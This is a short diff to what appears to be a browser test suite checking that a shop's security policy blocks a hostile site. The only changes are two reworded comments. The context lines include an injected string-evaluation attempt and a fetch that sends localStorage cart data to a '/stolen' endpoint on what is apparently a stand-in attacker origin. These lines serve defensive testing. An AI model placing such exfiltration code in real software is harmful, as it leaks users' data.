@@ -16,7 +16,7 @@ declare global {
 const evil = 'http://evil.example';
 
 test.beforeEach(async ({ context }) => {
-  // The hostile site responds to every request. Only the browser's rules keep its content out of the shop.
+  // The hostile site responds to every request, so only the browser can block its content.
   await context.route(`${evil}/**`, async (route) => {
     const { pathname } = new URL(route.request().url());
     if (pathname === '/frame.html') {
@@ -70,7 +70,7 @@ async function inject(page: Page): Promise<void> {
     try {
       Reflect.apply(setTimeout, window, ['window.ran.push("evaluated text")', 0]);
     } catch {
-      // The browser refuses to evaluate text.
+      // The shop's policy forbids evaluating text.
     }
     void fetch(`${origin}/stolen?cart=${localStorage.getItem('cart') ?? ''}`).then(
       () => window.ran.push('sent away'),
